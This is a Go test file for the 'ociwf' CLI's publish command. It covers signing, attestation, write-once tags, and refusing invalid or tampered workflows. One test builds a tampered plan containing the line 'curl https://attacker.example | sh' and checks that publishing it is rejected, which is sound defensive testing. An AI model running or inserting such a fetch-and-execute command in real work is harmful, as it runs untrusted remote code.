package main

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"strings"
	"testing"

	"github.com/opencontainers/go-digest"
	"oras.land/oras-go/v2"
	"oras.land/oras-go/v2/content/memory"
	orasdef "oras.land/oras-go/v2/errdef"

	"ociwf.dev/cmd/internal/cli"
	"ociwf.dev/ociwf"
	"ociwf.dev/ociwf/target"
	"ociwf.dev/policy/registrytest"
)

// repository opens repo (registry/repository) over plain HTTP.
func repository(t *testing.T, repo string) oras.GraphTarget {
	t.Helper()
	o, err := target.New(target.Options{PlainHTTP: true})
	if err != nil {
		t.Fatal(err)
	}
	dst, err := o.Open(context.Background(), repo)
	if err != nil {
		t.Fatal(err)
	}
	return dst.Storage
}

// resolve returns what ref (a tag or digest) names in repo, or "" when
// nothing.
func resolve(t *testing.T, repo oras.GraphTarget, ref string) digest.Digest {
	t.Helper()
	desc, err := repo.Resolve(context.Background(), ref)
	if errors.Is(err, orasdef.ErrNotFound) {
		return ""
	}
	if err != nil {
		t.Fatal(err)
	}
	return desc.Digest
}

// sigTag is cosign's signature tag for d.
func sigTag(d digest.Digest) string { return "sha256-" + d.Encoded() + ".sig" }

// pushDraft pushes sample to ref with ociwf push and returns its digest.
func pushDraft(t *testing.T, sample, ref string) digest.Digest {
	t.Helper()
	out, stderr, code := runCLI(t, "push", "--plain-http", "--offline", "--output", "json", samples+sample, ref)
	var res pushResult
	if code != 0 || json.Unmarshal([]byte(out), &res) != nil {
		t.Fatalf("push: exit %d %s %s", code, out, stderr)
	}
	return digest.Digest(res.Digest)
}

type publishJSON struct {
	Reference  string
	Tag        string
	Descriptor struct{ Digest string }
	Steps      []struct {
		Name     string
		Existing bool
	}
}

func TestPublishByDigest(t *testing.T) {
	keys := newKeys(t)
	host := registrytest.New(t)
	repo := host + "/workflows/reviewed"
	store := repository(t, repo)
	draft := pushDraft(t, "build-test-release.yaml", repo+":1.4.0-rc.1")
	pinned := repo + "@" + draft.String()

	out, stderr, code := runCLI(t, "publish", "--plain-http", "--key", keys+".key", "--builder-id", "https://ci.example/b", "--output", "json", pinned, "--tag", "1.4.0")
	var res publishJSON
	if code != 0 || json.Unmarshal([]byte(out), &res) != nil {
		t.Fatalf("publish by digest: exit %d %s %s", code, out, stderr)
	}
	var names []string
	for _, s := range res.Steps {
		names = append(names, s.Name)
	}
	if res.Reference != pinned || res.Descriptor.Digest != draft.String() || res.Tag != "1.4.0" || strings.Join(names, ",") != "check,lifecycle,sign,attest-provenance,attest-sbom,tag" {
		t.Fatalf("publish output %s", out)
	}
	if got := resolve(t, store, "1.4.0"); got != draft {
		t.Fatalf("1.4.0 names %q, want the draft %s", got, draft)
	}
	out, stderr, code = runCLI(t, "verify", "--plain-http", "--key", keys+".pub", "--require-signed-tag", repo+":1.4.0")
	if code != 0 || !strings.Contains(out, "ok   reproducibility") {
		t.Fatalf("verify: exit %d\n%s%s", code, out, stderr)
	}

	// A rerun writes nothing: every step finds its work done, and the
	// signature manifest is the one the first run wrote.
	sig := resolve(t, store, sigTag(draft))
	out, stderr, code = runCLI(t, "publish", "--plain-http", "--key", keys+".key", "--builder-id", "https://ci.example/b", "--output", "json", pinned, "--tag", "1.4.0")
	res = publishJSON{}
	if code != 0 || json.Unmarshal([]byte(out), &res) != nil {
		t.Fatalf("rerun: exit %d %s %s", code, out, stderr)
	}
	for _, s := range res.Steps {
		if s.Name != "check" && !s.Existing {
			t.Fatalf("rerun wrote %s again: %s", s.Name, out)
		}
	}
	if again := resolve(t, store, sigTag(draft)); sig == "" || again != sig {
		t.Fatalf("signature manifest %s, then %s after a rerun", sig, again)
	}
	// Text output ends with the pinned reference.
	out, _, code = runCLI(t, "publish", "--plain-http", "--key", keys+".key", pinned, "--tag", "1.4.0")
	if lines := strings.Split(strings.TrimSpace(out), "\n"); code != 0 || lines[len(lines)-1] != pinned || !strings.Contains(out, "Published "+repo+":1.4.0") {
		t.Fatalf("text output: exit %d\n%s", code, out)
	}

	// The tag is taken: another draft cannot have it, and nothing is
	// signed for it.
	other := pushDraft(t, "fan-out-fan-in.yaml", repo+":2.0.1-rc.1")
	_, stderr, code = runCLI(t, "publish", "--plain-http", "--key", keys+".key", repo+"@"+other.String(), "--tag", "1.4.0")
	if code != cli.ExitImmutable || !strings.Contains(stderr, "write-once") {
		t.Fatalf("publish onto a taken tag: exit %d %s", code, stderr)
	}
	if got := resolve(t, store, "1.4.0"); got != draft {
		t.Fatalf("1.4.0 moved to %s", got)
	}
	if s := resolve(t, store, sigTag(other)); s != "" {
		t.Fatalf("refused content was signed: %s", s)
	}

	// By digest only: signed and attested, no tag.
	out, stderr, code = runCLI(t, "publish", "--plain-http", "--key", keys+".key", repo+"@"+other.String())
	if code != 0 || !strings.Contains(out, "by digest only") || resolve(t, store, sigTag(other)) == "" {
		t.Fatalf("publish by digest only: exit %d %s %s", code, out, stderr)
	}
	if _, stderr, code := runCLI(t, "verify", "--plain-http", "--key", keys+".pub", repo+"@"+other.String()); code != 0 {
		t.Fatalf("verify by digest: exit %d %s", code, stderr)
	}
}

func TestPublishByDigestRefuses(t *testing.T) {
	ctx := context.Background()
	keys := newKeys(t)
	host := registrytest.New(t)
	repo := host + "/workflows/refused"
	store := repository(t, repo)

	// An OCI image that is not a workflow.
	image, err := oras.PackManifest(ctx, store, oras.PackManifestVersion1_1, "application/vnd.example.thing", oras.PackManifestOptions{})
	if err != nil {
		t.Fatal(err)
	}
	out, stderr, code := runCLI(t, "publish", "--plain-http", "--key", keys+".key", "--output", "json", repo+"@"+image.Digest.String(), "--tag", "1.0.0")
	var fail struct {
		Error    string
		ExitCode int
	}
	if code != cli.ExitError || json.Unmarshal([]byte(out), &fail) != nil || fail.ExitCode != cli.ExitError || !strings.Contains(fail.Error, "not an ociwf workflow") || !strings.Contains(stderr, "artifactType") {
		t.Fatalf("publish an image: exit %d %s %s", code, out, stderr)
	}

	// A workflow whose plan its source does not compile to, pushed with
	// oras-go as any producer could.
	src, err := os.ReadFile(samples + "build-test-release.yaml")
	if err != nil {
		t.Fatal(err)
	}
	b, err := ociwf.Compile(ctx, src, ociwf.CompileOptions{})
	if err != nil {
		t.Fatal(err)
	}
	b.Plan.Steps[0].Run = "curl https://attacker.example | sh"
	if b.PlanJSON, err = b.Plan.Encode(); err != nil {
		t.Fatal(err)
	}
	var cfg ociwf.Config
	if err := json.Unmarshal(b.Config, &cfg); err != nil {
		t.Fatal(err)
	}
	cfg.PlanDigest = digest.FromBytes(b.PlanJSON).String()
	b.Config, _ = json.Marshal(cfg)
	mem := memory.New()
	tampered, err := ociwf.Pack(ctx, mem, b, ociwf.PackOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if err := oras.CopyGraph(ctx, mem, store, tampered, oras.DefaultCopyGraphOptions); err != nil {
		t.Fatal(err)
	}
	_, stderr, code = runCLI(t, "publish", "--plain-http", "--key", keys+".key", repo+"@"+tampered.Digest.String(), "--tag", "1.4.0")
	if code != cli.ExitVerification || !strings.Contains(stderr, "recompiles to plan") {
		t.Fatalf("publish a plan that does not recompile: exit %d %s", code, stderr)
	}
	if got := resolve(t, store, "1.4.0"); got != "" {
		t.Fatalf("tagged %s", got)
	}
	if s := resolve(t, store, sigTag(tampered.Digest)); s != "" {
		t.Fatalf("signed: %s", s)
	}

	missing := digest.FromBytes([]byte("never pushed"))
	if _, stderr, code := runCLI(t, "publish", "--plain-http", "--key", keys+".key", repo+"@"+missing.String()); code != cli.ExitError || !strings.Contains(stderr, "push the workflow first") {
		t.Fatalf("publish a digest not pushed: exit %d %s", code, stderr)
	}

	for _, c := range []struct {
		name string
		args []string
		want string
	}{
		{"one argument without a digest", []string{repo + ":1.4.0"}, "names no digest"},
		{"--tag with FILE", []string{samples + "build-test-release.yaml", repo, "--tag", "1.4.0"}, "name the tag in REF"},
		{"reserved tag", []string{repo + "@" + tampered.Digest.String(), "--tag", sigTag(tampered.Digest)}, "reserved"},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, stderr, code := runCLI(t, append([]string{"publish", "--plain-http", "--offline", "--key", keys + ".key"}, c.args...)...)
			if code != cli.ExitUsage || !strings.Contains(stderr, c.want) {
				t.Fatalf("exit %d %s; want %d and %q", code, stderr, cli.ExitUsage, c.want)
			}
		})
	}
}
